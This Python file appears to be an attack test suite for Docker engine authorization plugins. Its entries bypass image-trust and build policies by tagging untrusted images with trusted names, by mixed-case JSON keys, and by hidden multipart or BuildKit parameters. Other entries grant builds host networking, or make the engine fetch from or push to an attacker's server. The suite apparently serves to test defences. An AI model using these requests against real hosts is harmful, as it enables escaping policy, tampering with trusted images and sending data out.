# SPDX-License-Identifier: GPL-3.0-or-later
"""Images that a policy trusts by their names, and builds."""

from rig.effect import exists, fetched, netns_in_answer, netns_in_log, prints, says, switches
from rig.row import EMPTY, FORM, TAR, TEXT, Call, Step, attack, get, post, run, run_text

TITLE = "Images and builds"

IMAGES = "images" # a policy that trusts busybox:1 and trusted:*
DOCKERFILE = "FROM busybox:1\nRUN readlink /proc/self/ns/net; cat /proc/self/cgroup; cat /etc/hosts\n"
EVIL = post("/v1.41/commit?pause=0&container=web&repo=evil&tag=$NAME", "")


def context(text=DOCKERFILE):
    return lambda world, names: world.tar({"Dockerfile": text})


def build(name, gives, query, effect, rules, **more):
    return attack(name, gives, (post(f"/v1.41/build?nocache=1&q=0&{query}", context(), (TAR,)),), effect, rules, **more)


def saved(world, names):
    """An image archive that gives its image a trusted name."""
    return world.image_archive(names.fill("trusted:$NAME"))


def multipart(fields):
    parts = "".join(f'--b\r\nContent-Disposition: form-data; name="{key}"\r\n\r\n{value}\r\n' for key, value in fields)
    return "the engine reads ahead\r\n" * 20000 + parts + "--b--\r\n"


MULTIPART = ("Content-Type", "multipart/form-data; boundary=b")

READ_NET = run(cmd="cat /net", Image="$NAME")

ATTACKS = [
    attack("tag-trusted", "a trusted name for an image of the attacker's",
           (post("/v1.41/images/evil:$NAME/tag?repo=trusted&tag=$NAME"),), exists("images", "trusted:$NAME"),
           "image-source",
           policy=IMAGES, setup=(EVIL,)),
    attack("tag-trusted-normalised", "a trusted name by its whole spelling",
           (post("/v1.41/images/evil:$NAME/tag?repo=docker.io/library/trusted&tag=$NAME"),),
           exists("images", "trusted:$NAME"), "image-source", policy=IMAGES, setup=(EVIL,)),
    attack("tag-trusted-index", "a trusted name by the older name of its registry",
           (post("/v1.41/images/evil:$NAME/tag?repo=index.docker.io/library/trusted&tag=$NAME"),),
           exists("images", "trusted:$NAME"), "image-source", policy=IMAGES, setup=(EVIL,)),
    attack("tag-trusted-in-repo", "a trusted name whose tag is in the name",
           (post("/v1.41/images/evil:$NAME/tag?repo=trusted:$NAME"),), exists("images", "trusted:$NAME"),
           "image-source",
           policy=IMAGES, setup=(EVIL,)),
    attack("commit-trusted", "a trusted name for what a container holds",
           (post("/v1.41/commit?pause=0&container=web&repo=trusted&tag=$NAME", ""),), exists("images", "trusted:$NAME"),
           "image-source", policy=IMAGES),
    attack("import-trusted", "a trusted name for a file system of the attacker's",
           (post("/v1.41/images/create?fromSrc=-&repo=trusted&tag=$NAME", context(), (TAR,)),),
           exists("images", "trusted:$NAME"), "image-source", policy=IMAGES),
    attack("load-trusted", "a trusted name out of an archive of the attacker's",
           (post("/v1.41/images/load?quiet=1", saved, (TAR,)),), exists("images", "trusted:$NAME"), "image-source",
           policy=IMAGES),
    build("build-trusted", "a trusted name for what was built", "t=trusted:$NAME", exists("images", "trusted:$NAME"),
          "image-source", policy=IMAGES),
    build("build-trusted-second", "a trusted name behind a harmless one", "t=mine:$NAME&t=trusted:$NAME",
          exists("images", "trusted:$NAME"), "image-source", policy=IMAGES),
    attack("run-untrusted", "what is in an image that nobody trusts", run(cmd="echo ran", Image="evil:$NAME"),
           prints("ran"),
           "image-source", policy=IMAGES, setup=(EVIL,)),
    attack("run-untrusted-id", "the same by the image's id", run(cmd="echo ran", Image="$IMAGE"), prints("ran"),
           "image-source", policy=IMAGES, setup=(EVIL, Call(lambda world, names: world.keep_image(names)))),
    attack("run-untrusted-short-id", "the same by the beginning of the image's id", run(cmd="echo ran", Image="$SHORT"),
           prints("ran"), "image-source", policy=IMAGES,
           setup=(EVIL, Call(lambda world, names: world.keep_image(names)))),
    attack("run-untrusted-folded", "the same by a key in other letters", 
           run_text('{"iMAGE":"evil:$NAME","Cmd":["echo","ran"],"HostConfig":{"NetworkMode":"none"}}'),
           prints("ran"), "image-source", policy=IMAGES, setup=(EVIL,)),
    attack("pull-elsewhere", "an image of a registry of the attacker's",
           (post("/v1.41/images/create?fromImage=$WEBSERVER/evil&tag=$NAME"),),
           exists("images", "$WEBSERVER/evil:$NAME"),
           "image-source", policy=IMAGES),
    attack("pull-in-a-form", "an image of a registry of the attacker's, named in the body and not in the query",
           (post("/v1.41/images/create?fromImage=busybox&tag=1", "fromImage=$WEBSERVER/evil&tag=$NAME", (FORM,)),),
           exists("images", "$WEBSERVER/evil:$NAME"), "content-type"),
    attack("pull-in-a-hidden-form", "the same behind a second Content-Type",
           (post("/v1.41/images/create?fromImage=busybox&tag=1", "fromImage=$WEBSERVER/evil&tag=$NAME", (FORM, TEXT)),),
           exists("images", "$WEBSERVER/evil:$NAME"), "content-type"),
    attack("tag-in-a-form", "a trusted name that stands in the body alone",
           (post("/v1.41/images/evil:$NAME/tag", "repo=trusted&tag=$NAME", (FORM,)),),
           exists("images", "trusted:$NAME"),
           "content-type", setup=(EVIL,)),
    attack("push-elsewhere", "what is in an image, on a registry of the attacker's",
           (Step("POST", "/v1.41/images/$WEBSERVER/pushed-$NAME/push?tag=1",
                 headers=(EMPTY, ("X-Registry-Auth", "e30="))),),
           fetched("/pushed-$NAME/manifests/1"), "image-source", policy=IMAGES,
           setup=(post("/v1.41/images/busybox:1/tag?repo=$WEBSERVER/pushed-$NAME&tag=1"),)),

    build("build-host-network", "the host's network for the commands of a build", "networkmode=host&t=$NAME",
          netns_in_answer(), "build host-namespaces"),
    build("build-cgroup-parent", "a control group outside the engine's for the commands of a build",
          "cgroupparent=/$CGROUP-elsewhere", says("Successfully built"), "build cgroup-parent"),
    build("build-hosts", "another address behind a name that the build trusts", "extrahosts=registry.example:192.0.2.1",
          says("192.0.2.1"), "build"),
    attack("build-shm-size", "memory of the host by a build's /dev/shm, its size written with a sign",
           (post("/v1.41/build?nocache=1&q=0&t=$NAME&shmsize=%2B1073741824",
                 context("FROM busybox:1\nRUN df /dev/shm\n"), (TAR,)),),
           says("1048576"), "build shm-size", policy="restricted"),
    attack("build-argument", "a variable for the commands of a build that gives them devices",
           (post("/v1.41/build?nocache=1&q=0&t=$NAME&buildargs=%7B%22NVIDIA_VISIBLE_DEVICES%22%3A%22all%22%7D",
                 context("FROM busybox:1\nARG NVIDIA_VISIBLE_DEVICES\nRUN env\n"), (TAR,)),),
           says("NVIDIA_VISIBLE_DEVICES=all"), "build environment"),
    attack("build-remote", "whatever the engine's host can reach, asked for by the engine",
           (post("/v1.41/build?q=0&remote=http://$WEBSERVER/$NAME/context.tar&t=$NAME"),),
           fetched("/$NAME/context.tar"), "build"),
    attack("build-remote-file", "the same for a Dockerfile alone",
           (post("/v1.41/build?q=0&remote=http://$WEBSERVER/$NAME/Dockerfile&t=$NAME"),), fetched("/$NAME/Dockerfile"),
           "build"),
    attack("build-hidden-network", "the host's network for a build, by a parameter that no plugin sees",
           (post("/v1.41/build?q=0&nocache=1&t=$NAME&remote=http://$WEBSERVER/$NAME/Dockerfile",
                 multipart([("networkmode", "host")]),
                 (MULTIPART, TAR)), *READ_NET), netns_in_log(), "build"),
    attack("build-hidden-remote", "a context of the attacker's, by a parameter that no plugin sees",
           (post("/v1.41/build?q=0&nocache=1&t=$NAME",
                 multipart([("networkmode", "host"), ("remote", "http://$WEBSERVER/$NAME/Dockerfile")]),
                 (MULTIPART, TAR)), *READ_NET), netns_in_log(), "build"),
    attack("build-multipart", "the same with the type that the plugin sees",
           (post("/v1.41/build?q=0&nocache=1&t=$NAME&remote=http://$WEBSERVER/$NAME/Dockerfile",
                 multipart([("networkmode", "host")]),
                 (MULTIPART,)), *READ_NET), netns_in_log(), "content-type"),
    attack("build-by-buildkit", "the host's network for the commands of a build by BuildKit",
           (post("/v1.41/build?version=2&nocache=1&networkmode=host&t=$NAME&remote=http://$WEBSERVER/$NAME/Dockerfile"),
            *READ_NET),
           netns_in_log(), "build host-namespaces"),
    attack("build-session", "BuildKit's channel, in which no plugin sees anything",
           (Step("POST", "/session",
                 headers=(("Connection", "Upgrade"), ("Upgrade", "h2c"), ("X-Docker-Expose-Session-Uuid", "s-$NAME"),
                                              ("X-Docker-Expose-Session-Name", "n"))),), switches, "build"),
    attack("build-grpc", "BuildKit's control, in which no plugin sees anything",
           (Step("POST", "/grpc", headers=(("Connection", "Upgrade"), ("Upgrade", "h2c"))),), switches, "build"),
    attack("look-up-elsewhere", "whatever the engine's host can reach, asked for by a look at an image",
           (get("/v1.41/distribution/$WEBSERVER/looked-at/json", status=(200, 400, 403, 404, 500)),),
           fetched("/v2/looked-at/manifests/latest"), "image-source", policy=IMAGES),
    attack("search-elsewhere", "whatever the engine's host can reach, asked for by a search",
           (get("/v1.41/images/search?term=$WEBSERVER/found", status=(200, 400, 404, 500)),),
           fetched("/v1/search?q=found&n=25"),
           "image-source", policy=IMAGES),
    attack("environment-of-an-image", "what a vendor's runtime gives on sight of a variable that the image brings",
           run(cmd="env", Image="mine:$NAME"), prints("NVIDIA_VISIBLE_DEVICES=all"), "environment",
           setup=(post("/v1.41/commit?pause=0&container=web&repo=mine&tag=$NAME",
                       {"Env": ["NVIDIA_VISIBLE_DEVICES=all"]}),)),
    attack("import-from-url", "whatever the engine's host can reach, asked for by the engine",
           (post("/v1.41/images/create?fromSrc=http://$WEBSERVER/$NAME/files.tar&repo=fetched&tag=$NAME"),),
           fetched("/$NAME/files.tar"), "image-source", policy=IMAGES),
]
